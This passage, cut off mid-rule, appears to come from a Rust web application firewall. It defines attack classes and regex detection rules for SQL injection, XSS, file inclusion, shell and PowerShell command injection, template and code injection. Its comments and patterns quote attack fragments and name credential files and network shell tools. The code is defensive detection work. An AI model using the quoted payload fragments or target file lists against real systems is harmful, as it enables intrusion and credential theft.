//! The detectors (R-WAF-1): each class has its own rules, each rule a stable id. They read a
//! [`Normalised`] value and say which rule fired first, if any.
//!
//! SQL injection and XSS use libinjection's tokenizer and fingerprints (`libinjectionrs`); the
//! other classes are patterns over the folded value, compiled once into one `RegexSet` per
//! kind of place (a value, a name), so that a value is scanned once for all of them.

use std::sync::{LazyLock, OnceLock};

use regex::bytes::{RegexSet, RegexSetBuilder};

use super::normalise::Normalised;
use super::scan::{any_byte, at_least};

/// An attack class, as rules, records and the evaluation tool name it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Class {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// Path traversal and local file inclusion.
    Lfi,
    /// Remote file inclusion and stream wrappers.
    Rfi,
    /// OS command injection.
    Rce,
    /// JNDI lookups (Log4Shell), nested and obfuscated forms included.
    Jndi,
    /// Server-side template injection.
    Ssti,
    /// PHP code injection.
    Php,
    /// Java code injection (expression languages, reflection, serialized objects).
    Java,
    /// NoSQL operator injection.
    Nosql,
    /// Prototype pollution keys.
    PrototypePollution,
    /// CR/LF injection into headers.
    Crlf,
    /// Server-side request forgery: URL values that point inside.
    Ssrf,
    /// Encodings a backend would read differently (overlong UTF-8, NUL).
    Encoding,
    /// XML external entities: a DTD or an entity declaration in an XML body.
    Xxe,
    /// HTTP framing a backend could read differently (request smuggling shapes).
    Protocol,
    /// Node.js code injection (serialized functions, `child_process`).
    Nodejs,
    /// Session fixation: setting a cookie or a session id from the request.
    SessionFixation,
    /// Multipart parts a backend would decode differently (another charset, a transfer
    /// encoding).
    Multipart,
    /// LDAP filter injection (`)(uid=*`, `)(|`).
    Ldapi,
    /// ORM lookup injection (Django-style `field__startswith`, `user__password__regex`).
    Orm,
    /// XPath injection: a predicate closed and a path joined (`'] | //user`), a condition
    /// made always true with XPath's own functions (`' or true() or ''='`).
    Xpath,
    /// Vulnerability scanners that name themselves in `User-Agent`.
    Scanner,
}

impl Class {
    /// The class name in records, metrics and the evaluation tool.
    pub const fn name(self) -> &'static str {
        match self {
            Class::Sqli => "sqli",
            Class::Xss => "xss",
            Class::Lfi => "lfi",
            Class::Rfi => "rfi",
            Class::Rce => "rce",
            Class::Jndi => "jndi",
            Class::Ssti => "ssti",
            Class::Php => "php",
            Class::Java => "java",
            Class::Nosql => "nosql",
            Class::PrototypePollution => "prototype-pollution",
            Class::Crlf => "crlf",
            Class::Ssrf => "ssrf",
            Class::Encoding => "encoding",
            Class::Xxe => "xxe",
            Class::Protocol => "protocol",
            Class::Nodejs => "nodejs",
            Class::SessionFixation => "session-fixation",
            Class::Multipart => "multipart",
            Class::Ldapi => "ldapi",
            Class::Orm => "orm-injection",
            Class::Xpath => "xpath",
            Class::Scanner => "scanner",
        }
    }
}

/// Every class.
pub const CLASSES: &[Class] = &[
    Class::Sqli,
    Class::Xss,
    Class::Lfi,
    Class::Rfi,
    Class::Rce,
    Class::Jndi,
    Class::Ssti,
    Class::Php,
    Class::Java,
    Class::Nosql,
    Class::PrototypePollution,
    Class::Crlf,
    Class::Ssrf,
    Class::Encoding,
    Class::Xxe,
    Class::Protocol,
    Class::Nodejs,
    Class::SessionFixation,
    Class::Multipart,
    Class::Ldapi,
    Class::Orm,
    Class::Xpath,
    Class::Scanner,
];

/// The ids of the rules that are not patterns in the tables below.
const CODE_RULES: &[&str] = &[
    "java-130",
    "nodejs-110",
    "sqli-100",
    "sqli-120",
    "sqli-130",
    "xss-100",
    "xss-120",
    "jndi-100",
    "jndi-110",
    "ssrf-100",
    "encoding-100",
    "encoding-110",
    "encoding-120",
    "encoding-130",
    "encoding-140",
    "encoding-150",
    "crlf-120",
    "xxe-100",
    "xxe-110",
    "multipart-100",
    "multipart-110",
    "multipart-120",
    "scanner-100",
    "rfi-110",
    "rfi-120",
    "rfi-150",
    "rce-220",
    "rce-260",
    "protocol-100",
    "protocol-101",
    "protocol-110",
    "protocol-120",
    "protocol-130",
    "protocol-150",
    "protocol-160",
    "protocol-170",
    "protocol-180",
    "protocol-190",
    "protocol-200",
    "protocol-210",
    "protocol-220",
    "crlf-130",
    "rfi-160",
    "rfi-170",
    "encoding-160",
];

/// Every rule id.
pub static RULE_IDS: std::sync::LazyLock<Vec<&'static str>> = std::sync::LazyLock::new(|| {
    CODE_RULES
        .iter()
        .copied()
        .chain(VALUE_RULES.iter().map(|r| r.id))
        .chain(GATED.iter().flat_map(|g| g.rules).map(|r| r.id))
        .chain(NAME_RULES.iter().map(|r| r.id))
        .chain(PATH_RULES.iter().map(|r| r.id))
        .chain(FILE_NAME_RULES.iter().map(|r| r.id))
        .collect()
});

/// A rule that fired.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Hit {
    /// The rule's id (`sqli-100`).
    pub rule: &'static str,
    /// Its class.
    pub class: Class,
}

/// One pattern rule.
struct Rule {
    id: &'static str,
    class: Class,
    pattern: &'static str,
}

/// Pattern rules over a folded value (lower case, backslashes as slashes, entities, percent
/// escapes and full-width forms undone).
/// The pieces of `rce-100`'s pattern, each written once: a program's optional directory,
/// the command words (those a note never uses as words, and those it does: `echo`, `cat`,
/// `sleep`, `ID`), and what a shell reads after a word.
macro_rules! shell_path {
    () => {
        r"(?:/?(?:usr/)?(?:local/)?s?bin/)"
    };
}
macro_rules! shell_only_words {
    () => {
        "whoami|hostname|uname|wget|curl|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|nslookup|chmod|chown|nmap|telnet|ifconfig|ipconfig|powershell|printenv|xargs|awk|base64|tftp|ftp|scp|sudo|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript|base32|cpulimit"
    };
}
macro_rules! prose_words {
    () => {
        "cat|id|pwd|ping|dig|echo|touch|cmd|sleep|kill|ps|env|head|tail|find|su|column|flock|sed|ssh|rm|ls|nc|php|ruby|perl|dir"
    };
}
macro_rules! tool_words {
    () => {
        r"ansible(?:-[a-z]+)?|chef-[a-z]+|cscli|aa-[a-z]{3,}|bsdtar|ifconfig|whoami|python[0-9][0-9.]*|strace|ltrace|htop|tcpdump|tshark|socat|openssl|busybox|toybox|nohup|setsid|mkfifo|mknod|xxd|hexdump|sqlite3|mysql|psql|mongosh|redis-cli|kubectl|crictl|systemctl|journalctl|chattr|lsattr|setfacl|getfacl|iptables|ip6tables|netstat|lsof|pkill|killall|pgrep|visudo|chpasswd|rsync|lftp|aria2c|lwp-download|lwp-request|uconv|lastlogin|lastlog|readelf|objdump|tmux|byobu|uuencode|uudecode|zcat|zgrep|bzcat|xzcat|gunzip|bunzip2|unxz|unrar|insmod|rmmod|modprobe|sysctl|dmesg|chroot|nsenter|capsh|runuser|sudoedit|pkexec|sendmail|mailx|crontab|pipx|npx|pnpm|apt-get|dpkg|yum|dnf|zypper|flatpak|podman|gcc[0-9.]*|g\+\+|tclsh|luajit|jjs|jrunscript|nodejs|cpan|7za?|bcdboot|bcdedit|bootcfg|diskpart|regsvr32|schtasks|netsh|vssadmin|wevtutil|takeown|icacls|cacls|forfiles|wbadmin"
    };
}
/// Programs whose names are also clinical or research abbreviations (an IRB's approval,
/// `LDD` a leg length discrepancy, `PIP2` a phospholipid, `GDB`, `C99`): at a value's start
/// they count only before an option, a path or the end of the value.
macro_rules! abbreviation_tool_words {
    () => {
        r"irb|ldd|gdb|lldb|pip[0-9.]*|c89|c99"
    };
}
macro_rules! shell_words {
    () => {
        concat!(shell_only_words!(), "|", prose_words!())
    };
}
macro_rules! shell_word_end {
    () => {
        r"(?:\s|$|[;|&<>`'\x22)])"
    };
}

const VALUE_RULES: &[Rule] = &[
    Rule {
        id: "xss-112",
        class: Class::Xss,
        pattern: r"(?:java|vb|live)script\s*:|data\s*:\s*text/html|data\s*:\s*(?:text|application)/(?:x-)?(?:java|ecma)script|\bexpression\s*\(|\bsrcdoc\s*=",
    },
    Rule {
        id: "lfi-100",
        class: Class::Lfi,
        // `....//` is what a filter that deletes `../` once leaves as `../`.
        pattern: r"(?:^|[/=\s])\.\.(?:/|$)|\.\.\.\.//",
    },
    Rule {
        id: "lfi-110",
        class: Class::Lfi,
        pattern: r"(?:^|/)(?:etc/+(?:passwd|shadow|group|hosts|issue|crontab|sudoers)|proc/+self/|proc/+\d+/|windows/+(?:system32|win\.ini|system\.ini)|win\.ini|\.dockerenv$|(?:var/)?run/secrets/|\.(?:bash|zsh)rc$|\.bash_profile$|boot\.ini|\.htaccess|\.htpasswd|web\.config|(?:web|meta)-inf/|\.git/|\.ssh/|\.(?:docker|aws|kube|gnupg)/|id_rsa|\.bash_history|\.env$)",
    },
    Rule {
        id: "rfi-100",
        class: Class::Rfi,
        pattern: r"\b(?:php|file|zip|phar|expect|data|glob|compress\.(?:zlib|bzip2)|ogg|ssh2(?:\.[a-z]+)?|rar|gopher|dict|jar|netdoc|local_file)://|\bjar:(?:file|https?|ftp):|^data:text/plain(?:[;,]|$)",
    },
    Rule {
        id: "jndi-110",
        class: Class::Jndi,
        // A JNDI name with its naming scheme, however the `${` before it was spelled
        // (`$&lbrace;`, `$\u007b`): nothing but a lookup writes it.
        pattern: r"jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:",
    },
    Rule {
        // A quoted predicate closed, then a union with another path (`'] | //user/*`,
        // `admin')] | //user[`): the value leaves the expression the backend wrote and
        // selects another part of the document.
        id: "xpath-110",
        class: Class::Xpath,
        pattern: r"['\x22]\s*\)?\s*\]\s*\|\s*/",
    },
    Rule {
        id: "ldapi-100",
        class: Class::Ldapi,
        pattern: LDAP_FILTER,
    },
    Rule {
        id: "orm-100",
        class: Class::Orm,
        // A lookup spelled as a JSON key or parameter inside a text body.
        pattern: ORM_LOOKUP_QUOTED,
    },
    Rule {
        id: "rce-100",
        class: Class::Rce,
        // A command word after a shell separator, followed by what a shell reads next (a space,
        // the end, another separator): `&id=123` in a URL is a parameter, `; id` a command.
        // Words that are also prose or clinical words (`echo` for an echocardiogram, `cat`
        // scan, `head`, `sleep`, `ID` for infectious disease) after a `;` or `&` and a space,
        // or at a line's start, count only before what a shell reads (`; sleep 5`, `; cat
        // /etc/…`, `⏎ping -c 1`): "ECG normal; echo showed EF 55%" and a line "ID card
        // renewed" are a note. Glued to `;` or `&` (`;id`) or after `|`, `&&`, `||`, a
        // back-quote or `$(`, they count as before.
        // A redirection reads a file name: `< 5` then a word is a comparison (`; sleep < 5
        // hours`), `> /tmp/x`, `< input.txt` a redirection.
        pattern: concat!(
            // After `|`, `&&`, `||`, a back-quote or `$(`: every word.
            r"(?:[|`]|\$\(|\|\||&&)\s*(?:\.\s+)?['\x22]?",
            shell_path!(),
            r"?(?:",
            shell_words!(),
            r")",
            shell_word_end!(),
            // Glued to `;` or `&`: every word.
            r"|[;&](?:\.\s+)?['\x22]?",
            shell_path!(),
            r"?(?:",
            shell_words!(),
            r")",
            shell_word_end!(),
            // After the separator and a space, or at a line's start: a word prose never uses,
            // or any with its path.
            r"|(?:[;&]\s+|\n\s*)(?:\.\s+)?['\x22]?(?:",
            shell_path!(),
            r"?(?:",
            shell_only_words!(),
            r")|",
            shell_path!(),
            r"(?:",
            prose_words!(),
            r"))",
            shell_word_end!(),
            // A prose word after the separator and a space, or at a line's start (`ID card
            // renewed`, `Cat scan booked`: a note's line): only before what a shell reads. A
            // number counts where the command would end after it (`; sleep 5`, `⏎ping
            // 10.0.0.1 -c 1`, `⏎sleep 5#`, a comment glued on), not before a unit (`Sleep 6
            // hours`, `Head 54 cm`) nor a hashtag after a space (`Sleep 6 #tired`); a file name
            // has a letter (`cat x.txt`, not `Sleep 6.5 hours`); an option is a dash glued to
            // its letter (`-c`, `--help`; `Sleep - poor` is a dash in prose).
            r"|(?:[;&]\s+|\n\s*)(?:\.\s+)?['\x22]?",
            shell_path!(),
            r"?(?:",
            prose_words!(),
            r")['\x22]?(?:\s+(?:-[-a-z0-9]|/|~/|\./|\$|\d[\d.:]*(?:#|\s*(?:$|[;&|\n<>`)'\x22])|\s+-)|['\x22|&`]|[<>]+\s*(?:[^\s\d]|\d+\.[a-z])|[a-z0-9_-]*[a-z_-][a-z0-9_-]*\.[a-z0-9]{1,4}(?:\s|$))|[<>|`])",
            // A line that is a prose word alone (`127.0.0.1⏎id`, `x⏎ls⏎`): a note's line is
            // more than that.
            r"|\n\s*(?:\.\s+)?['\x22]?",
            shell_path!(),
            r"?(?:",
            prose_words!(),
            r")['\x22]?[^\S\n]*(?:\n|$)",
            // A value that is a separator and a prose word alone (`; id`, `& id`, `⏎ id ⏎`):
            // no text before the separator for the word to belong to.
            r"|^\s*[;&|\n]\s*(?:\.\s+)?['\x22]?",
            shell_path!(),
            r"?(?:",
            prose_words!(),
            r")['\x22]?\s*$",
        ),
    },
    Rule {
        id: "rce-110",
        class: Class::Rce,
        // `${IFS}`, `$(…)`, `$SHELL -c`; back-quoted text is [`back_quoted`]'s.
        pattern: r"\$\{ifs\}|\$ifs\b|\$\([a-z/][^)]*\)|\$(?:shell|bash)\s+-c\b",
    },
    Rule {
        // `/bin/sh`, `cmd /c`, `powershell -…`, fork bombs (`:(){ :|:& };:`, `f(){ f|f& };f`),
        // and vim/ex's shell escapes (`+silent\ \!whoami`, `-c:!pwd`).
        id: "rce-120",
        class: Class::Rce,
        pattern: r"/bin/(?:ba|z|k|c|da)?sh\b|\bsilent[/\s]*![a-z]|\s-c\s*:\s*/?!|\bcmd(?:\.exe)?\s*/c\b|\bpowershell(?:\.exe)?\s+-|\(\s*\)\s*\{[^}]*;\s*\}|\(\s*\)\s*\{[^}]*\|[^}]*&\s*\}|:\s*\(\s*\)\s*\{",
    },
    Rule {
        id: "rce-140",
        class: Class::Rce,
        // cmd.exe's loop: `for /l %a in (1,1,2) do …`.
        pattern: r"\bfor\s+(?:/[a-z]\s+)*(?:[a-z]:\S*\s+|\x22[^\x22]*\x22\s+)?%%?\S{1,20}\s+in\s*\(",
    },
    Rule {
        id: "rce-141",
        class: Class::Rce,
        // cmd.exe's conditional, at the start of a value or after `&`: `IF EXIST f CMD`,
        // `if /i a==b`, `IF %ERRORLEVEL% EQU 2 goto x`, `if "%1"==""`. A bracket or a quote
        // after `if` counts only with the comparison: "If (yet) known", "If "SHALL NOT" is
        // desired" are sentences.
        pattern: r"(?:^|&)\s*if(?:\s+/i\s+|/i\s+|\s+)(?:not\s+)?(?:exist\s|errorlevel\s|defined\s|cmdextversion\s|%|\(\s*$|\x22[^\x22]*\x22\s*={2,3}|[^\s=]+\s*={2,3}|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s)",
    },
    Rule {
        id: "rce-105",
        class: Class::Rce,
        // Programs whose names are no word of English or Japanese romaji (debuggers, package
        // managers, tracing and network tools, configuration tools), at the start of a value
        // or after a shell separator, followed by what a shell reads next. AppArmor's `aa-`
        // tools have names of three letters or more: `aa-ET` is a language tag (Afar).
        // Programs whose names are English words (an aptitude test, a psychiatric "clang
        // association", a composer) count only after a separator.
        pattern: concat!(
            r"(?:^|[;|&`\n]|\$\(|\|\||&&)\s*['\x22]?",
            shell_path!(),
            r"?(?:",
            tool_words!(),
            r")(?:\s|$|[;|&<>`'\x22)])|(?:[;|&`\n]|\$\(|\|\||&&)\s*['\x22]?",
            shell_path!(),
            r"?(?:aptitude|clang|composer|pacman|unshare|",
            abbreviation_tool_words!(),
            r")(?:\s|$|[;|&<>`'\x22)])|^\s*['\x22]?",
            shell_path!(),
            r"?(?:",
            abbreviation_tool_words!(),
            r")(?:\s*$|\s+(?:-{1,2}[a-z]|/|\./|~/|(?:install|uninstall|download|freeze)\b))",
            // Programs whose names are words or abbreviations (`IP`, `net`, `reg`, `ss`,
            // `java`, `timeout`) count with the subcommand or option only a shell reads.
            r"|(?:^|[;|&`\n]|\$\(|\|\||&&)\s*['\x22]?",
            shell_path!(),
            r"?(?:ip\s+(?:-[a-z0-9]+\s+)*(?:addr|address|link|neigh|netns|tuntap|xfrm)\b|ip\s+r(?:oute)?\s+(?:show|list|get)\b|ss\s+-[a-z]|net1?\s+(?:localgroup|accounts|share|session)\b|net1?\s+user(?:\s*$|\s[^;|&\n]*/(?:add|del|delete|domain|active)\b)|reg\s+(?:query|add|delete|export|save)\s+['\x22]?hk|xterm\s+-|java\s+-(?:jar|cp|classpath)\s|waitfor\s+/|choice\s+/[a-z]|timeout\s+(?:/t\b|\d+[smhd]?\s+(?:sleep|sh|bash|ping|curl|wget|nc|python[0-9.]*|perl)\b))",
        ),
    },
    Rule {
        id: "rce-106",
        class: Class::Rce,
        // Programs with shell escapes or short names that are also words, only after a shell
        // separator.
        pattern: r"(?:[;|&`\n]|\$\(|\|\||&&)\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:vim?|nvim|nano|emacs|perf|rmt(?:-[a-z]+)?|docker|lua|deno|npm|mutt|regedit)(?:\s|$|[;|&<>`'\x22)])",
    },
    Rule {
        id: "rce-190",
        class: Class::Rce,
        // A command line at the start of a value or after a shell separator: a program,
        // then an option (`cat -n`, `perl -e`), a path (`cat /path/file.gz`, `sh ./x`) or a
        // program it runs (`time sh -c whoami`, `nohup curl …`). Words that are also
        // English (`time`, `head`, `more`, `find`) are held by what follows: prose puts no
        // `-x` option or `/path` after them, nor `curl`; so are programs whose names are
        // English words (an aptitude test, a psychiatric "clang association", a composer). A
        // `+x` option (`alias +m`) and a `user@host` (`ssh-copy-id user@server`) count as
        // options.
        pattern: r"(?:^|[;|&\n]|\$\(|&&|\|\|)\s*['\x22]?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|tac|nl|head|tail|less|more|ls|dir|bash|sh|zsh|dash|ksh|csh|tcsh|curl|wget|nc|ncat|netcat|socat|env|time|timeout|nice|nohup|flock|cpulimit|python[0-9.]*|perl|ruby|php|node|lua|awk|gawk|sed|grep|egrep|find|xargs|chmod|chown|rm|cp|mv|touch|mkdir|tar|unzip|gzip|id|whoami|uname|ping|ssh|scp|ftp|tftp|telnet|echo|printf|base32|base64|xxd|od|dd|sleep|kill|ps|crontab|sudo|su|mount|umount|systemctl|service|column|fold|bridge|cd|strings|stat|wc|rev|which|whereis|locate|git|gcc|ifconfig|dig|nslookup|whois|openssl|rmt|perf|bsdtar|alias|date|ssh-copy-id|ll|set|ex|rc|aptitude|clang|composer|pacman|unshare)['\x22]?\s+(?:-{1,2}[a-z]|\+[a-z]|[a-z0-9._-]+@[a-z0-9]|/(?:[a-z0-9.~_\[*?-]|[;|&]|$)|~/|\.\.?/|\$[a-z({]|[a-z0-9_-]+\.(?:sh|bash|py|pl|rb|php)(?:\s|$)|(?:bash|sh|zsh|nc|ncat|curl|wget|python[0-9.]*|perl|ruby|php|whoami|who|uname|ifconfig|cscli|bsdtar)(?:\s|$))",
    },
    Rule {
        id: "rce-200",
        class: Class::Rce,
        // A value that is a shell's directory-stack expansion (`~+`, `~-1`, `~0`; `~5` is
        // "about five").
        pattern: r"^~(?:[+-]\d*|0)$",
    },
    Rule {
        id: "rce-150",
        class: Class::Rce,
        // Shell globs that spell a path without its name: `/bi[n]/bash`, `/etc/[p]asswd`.
        pattern: r"(?:^|[\s=;|&])/[a-z0-9_./*-]*\[[^\]\s]{0,7}[a-z?*!^-][^\]\s]{0,7}\][a-z0-9_./?*-]*",
    },
    Rule {
        id: "rce-160",
        class: Class::Rce,
        // Shell expansions: `${cmd}`, `${PATH#…}`, `${PATH:0:1}`, `$(( … ))`, process
        // substitution `<(cmd)`.
        pattern: r"\$\{[a-z_][a-z0-9_]*(?:(?:[#%/^,~]|:-|:\d)[^}]*)?\}|\$\(\(|[<>]\(\s*[a-z]",
    },
    Rule {
        id: "rce-170",
        class: Class::Rce,
        // Perl's interpolation of an expression into a string: `@{[ system 'id' ]}`.
        pattern: r"@\{\s*\[",
    },
    Rule {
        id: "rce-180",
        class: Class::Rce,
        // A shell alias defined, and shell globs standing for a directory's name
        // (`/???/?s`, `/et*/passwd`).
        pattern: r"(?:^|[;|&\n])\s*alias\s+[\w.-]+=|(?:^|[\s=;|&])/[a-z0-9_.-]*[?*]+[a-z0-9_.-]*/",
    },
    Rule {
        id: "ssti-100",
        class: Class::Ssti,
        pattern: r"\{\{[^}]*(?:\d['\x22]?\s*[*+/-]\s*['\x22]?\d|__|\bconfig\b|\b_?self\b|\brequest\b|\.\s*class\b|['\x22\d]\s*\.\s*[a-z_]\w*\s*\(|\|)[^}]*\}\}|\{%[-+]?\s*[a-z_][^%]*%\}|<%[=\s].*%>|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|[#*]\{\s*\d+\s*[*+/-]\s*\d+\s*\}|@\(\s*\d+\s*[*+/-]\s*\d+\s*\)|%\{\s*\d+\s*[*+/-]\s*\d+\s*\}|\{\$smarty\.|_self\.env\.|registerundefinedfiltercallback|\{\{\s*(?:app\.(?:request|session|user)\b|(?:dump|constant)\s*\()|#set\s*\(\s*\$[a-z]|#(?:foreach|evaluate)\s*\(\s*['\x22$]|\{\{\s*[#/](?:with|each)\b|[#$]\{\s?t\s?\(\s?[a-z]+\.|\| ?(?:filter|map|reduce|sort) ?\( ?['\x22](?:system|exec|passthru|shell_exec|popen|proc_open)\b",
    },
    Rule {
        id: "php-100",
        class: Class::Php,
        // PHP's code-running functions called. Those whose names are English words
        // (`system`, `include`, `require`, `assert`) count glued to their parenthesis, or with a
        // quote, a variable or nothing inside: "the nervous system (CNS)", "symptoms include
        // (fever)" and a plural's "system(s)" are prose.
        pattern: r"<\?(?:php|=)|\b(?:exec|eval|shell_exec|passthru|popen|proc_open|base64_decode|file_get_contents|file_put_contents|fopen|readfile|phpinfo|call_user_func(?:_array)?|create_function|preg_replace|include_once|require_once|unserialize|str_rot13|gzinflate)\s*(?:/\*.*?\*/\s*)*\(|\b(?:system|assert|include|require)(?:/\*.*?\*/)*\((?:$|[^se\s]|s[^)]|e[^s]|es[^)])|\b(?:system|assert|include|require)\s*(?:/\*.*?\*/\s*)*\(\s*(?:['\x22$`)]|$)",
    },
    Rule {
        id: "php-140",
        class: Class::Php,
        // A variable or an array element called as a function (`$__['o'](5)`, `${x}()`), or
        // a dangerous function's name in parentheses called (`(system)('ls')`).
        pattern: r"\$(?:[a-z_]\w*|\{[^}]{1,40}\})(?:\s*(?:/\*.*?\*/\s*)*(?:\[[^\]]{0,40}\]|\{[^}]{1,40}\}))+\s*(?:/\*.*?\*/\s*)*\(|\$[a-z_]\w*\(|\$(?:_\w*|[a-z]\w*[0-9_]\w*)\s+\(|\$[a-z_]\w*(?:\s*(?:/\*.*?\*/|//[^\n]*\n|#[^\n]*\n))+\s*[\[(]|\$\{[^}]{1,40}\}\s*\(|\$\s*\{\s*['\x22$@]|\(\s*(?:/\*.*?\*/\s*)*(?:system|exec|passthru|shell_exec|popen|proc_open|assert|eval|create_function|call_user_func)\s*(?:/\*.*?\*/\s*)*\)\s*\(",
    },
    Rule {
        id: "php-110",
        class: Class::Php,
        pattern: r#"\b[oa]:\d+:(?:"[^"]*"|\{)|\$_(?:get|post|request|cookie|server|files|env)\b"#,
    },
    Rule {
        id: "php-170",
        class: Class::Php,
        // A dangerous function's name spelled as a string and called, also in parentheses,
        // indexed from an array, or built from short string pieces: `"system"(ls)`,
        // `('system')('id')`, `[system][0](ls)`, `(['system'])[0](…)`, `'sys'.'tem'` (FHIR's
        // `[system]|[code]`, a token's format, is no call).
        pattern: r#"['"](?:system|exec|passthru|shell_exec|popen|proc_open|assert|eval|phpinfo)['"]\s*\)?\s*\(|\[\s*['"]?(?:system|exec|passthru|shell_exec|popen|proc_open|phpinfo)['"]?\s*\]\s*\)?\s*[\[(]|['"][a-z]{1,5}['"](?:\.|\s+\.\s*)['"][a-z]{1,5}['"]|\(\s*[a-z]{1,4}\s*\.\s*\(\s*[a-z]{1,4}\s*\)"#,
    },
    Rule {
        id: "java-100",
        class: Class::Java,
        // Velocity and Struts only as Java names: "peak velocity" and a stent's struts are
        // in every echocardiography and cardiology report.
        pattern: r"java\.(?:lang|io|net|util|beans|rmi)\.|\bjava\.runtime\b|javax\.|runtime\s*\.\s*getruntime|processbuilder|classloader|\.getclass\s*\(|\.forname\s*\(|\.getmethod\s*\(|\.invoke\s*\(|\bognl\b|@java\.|xwork|#_memberaccess|#context|\.newinstance\s*\(|freemarker\.template|org\.apache\.(?:velocity|struts)|\bvelocity(?:engine|context)\b|\bstruts2?\.[a-z]",
    },
    Rule {
        id: "java-110",
        class: Class::Java,
        pattern: r"\bro0ab|\baced0005|%\{[^}]*[#@(][^}]*\}|\$\{[^}]*(?:\.class|getclass|runtime|\(\s*\))[^}]*\}",
    },
    Rule {
        id: "xss-130",
        class: Class::Xss,
        // The DOM reached from script, comments or brackets allowed between the steps
        // (`document /*x*/ . cookie`, `self["alert"]`, `(document)["cookie"]`).
        // Words that are also prose ("the window. Body temperature…") only right after the
        // dot.
        pattern: r#"\b(?:document|window|self|top|parent|frames)\)?\s*(?:/\*[^*]*\*/\s*)*(?:\.\s*(?:/\*[^*]*\*/\s*)*(?:cookie|domain|createelement|queryselector(?:all)?|getelementby[a-z]+|writeln|globaleval)\b|\[\s*(?:/\*[^*]*\*/\s*)*["'`])|\b(?:document|window|self|top|parent)\.(?:location|write|body|open|name|origin|alert|eval)\b"#,
    },
    Rule {
        id: "xss-131",
        class: Class::Xss,
        // Script's dialogs and string evaluators called, written as code is (no space before
        // the parenthesis: "alert (high)" is prose).
        pattern: r"\b(?:alert|prompt|confirm|settimeout|setinterval|execscript|atob|btoa|globaleval)\(",
    },
    Rule {
        id: "xss-132",
        class: Class::Xss,
        // Obfuscations: JSFuck (`(![]+[])`, `+!![]`), UTF-7 `+ADw-`, AngularJS's sandbox
        // escape `constructor.constructor(`, VML and `noscript` elements.
        pattern: r"\(!\[\]\s*\+\s*\[\]\)|\+!!\[\]|!\+\[\]|\+ad[w4]-|constructor\s*\.\s*constructor\s*\(|<\s*/?\s*(?:[a-z]*:)?(?:vmlframe|noscript)\b",
    },
    Rule {
        id: "sqli-110",
        class: Class::Sqli,
        pattern: r"\bunion\b[\s+(/*!0-9]+(?:all|distinct)?[\s+(/*!]*select\b|\binto[\s+]+(?:out|dump)file\b|\b(?:sleep|benchmark|pg_sleep)\s*\(\s*\d|\b(?:gtid_subset|gtid_subtract|extractvalue|updatexml|name_const|json_keys|make_set)\s*\(|\bconcat(?:_ws)?\s*\(\s*0x[0-9a-f]|\b(?:or|and)[\s+]+glob\s*\(|\bwaitfor[\s+]+delay\b|information_schema|\bload_file\s*\(|@@version|\bversion\s*\(\s*\)|;\s*shutdown\s*(?:with\s+nowait\b|--|#|/\*|;|$)|\b(?:or|and)[\s+]+(\d+)[\s+]*=[\s+]*\d+|'[\s+]*(?:or|and)[\s+]*'(?:[\d'\s+]|[^']*$|[^']*'[\s+]*(?:[=<>!]|like\b|is\b|in\b|regexp\b|rlike\b|between\b|\|\||&&|--|#|/\*|;|\)[\s+]*(?:--|#|/\*|;|$)))|\blimit[\s+]+\d+\s*,\s*\d+\s*(?:--|#|/\*)|\b(?:utl_(?:http|inaddr|smtp|tcp|file)|dbms_(?:pipe|lock|xmlgen|java|export_extension)|ctxsys\.drithsx)\s*\.\s*[a-z_]+",
    },
    Rule {
        id: "sqli-140",
        class: Class::Sqli,
        // The long payloads of injection tools (sqlmap's boundaries and tests), which
        // libinjection's fingerprints of the first tokens do not reach: after `and`/`or`, a
        // number compared with a subquery or a call (`AND 4217=BIN_SHL(CAST(…`, `OR
        // 4217=(SELECT COUNT(*)…`) or a string with a call, or numbers compared (`having
        // 1=1`, `or not 1=1`); `case … when … then … end`; a string joined to a subquery
        // (`'x'||(SELECT`); `cast(… as int)`; MySQL's `in boolean mode)`; `select count(*`,
        // `(select * from`; a conditional call on a comparison of numbers
        // (`elt(4217=4217,…)`, `iif(1=1,…)`). Every alternative starts with two bytes or more
        // of literal, so the rule stays behind the literal scan.
        pattern: r"\b(?:and|or|having|where|xor)[\s+]+(?:\(\s*)?\d+\s*(?:=|<>|!=|<|>|\s+in\s+)\s*\(?\s*(?:select\b|[a-z_][a-z0-9_.$]*\s*\()|\b(?:and|or|having|xor)[\s+]+(?:not[\s+]+)?\d+\s*=\s*\d+|\b(?:and|or)[\s+]+'[^']*'\s*=\s*[a-z_][a-z0-9_.]*\s*\(|\bcase\s+(?:\d+\s+)?when\b[^;]*\bthen\b[^;]*\bend\b|\|\|\s*\(\s*select\b|'\s*\+\s*\(\s*select\b|\bcast\s*\([^;]*\bas\s+(?:int|integer|bigint|smallint|varchar|char|nchar|numeric|decimal|signed|unsigned|text|binary|number|float|real)\b|\bin\s+boolean\s+mode\s*\)|\bselect\s+count\s*\(\s*(?:\*|\w+\s*\()|\(\s*select\s+\*\s+from\b|\b(?:elt|iif|if|ifnull|nullif|decode|choose)\s*\(\s*\d+\s*=\s*\d+\s*,",
    },
    Rule {
        id: "rce-130",
        class: Class::Rce,
        pattern: r"\b(?:invoke-(?:webrequest|expression|command|item|restmethod|wmimethod)|iex|iwr|iwmi|start-process|new-object\s+net\.webclient|downloadstring|downloadfile|set-executionpolicy)\b[\s(]",
    },
    Rule {
        // An SQLite shell dot-command after a statement (CRS 932210): `;.shell nc …`,
        // `;⏎.databases`, and `;\n.shell` with the line break escaped as a shell's `$'…'`
        // reads it (the backslash folds to a slash).
        id: "rce-231",
        class: Class::Rce,
        pattern: r#"[;\n]\s*(?:/[nr]\s*)*\.\s*[/"']*(?:shell|system|sh|databases|tables|schema|dump|import|output|once|load|open|read|dbinfo)\b"#,
    },
    Rule {
        // A path segment that is a shell glob of a name (`cat /et*/*wd`, `/bin/ca?/`, CRS
        // 932190): the shell finds the file the filter was told the name of.
        id: "rce-233",
        class: Class::Rce,
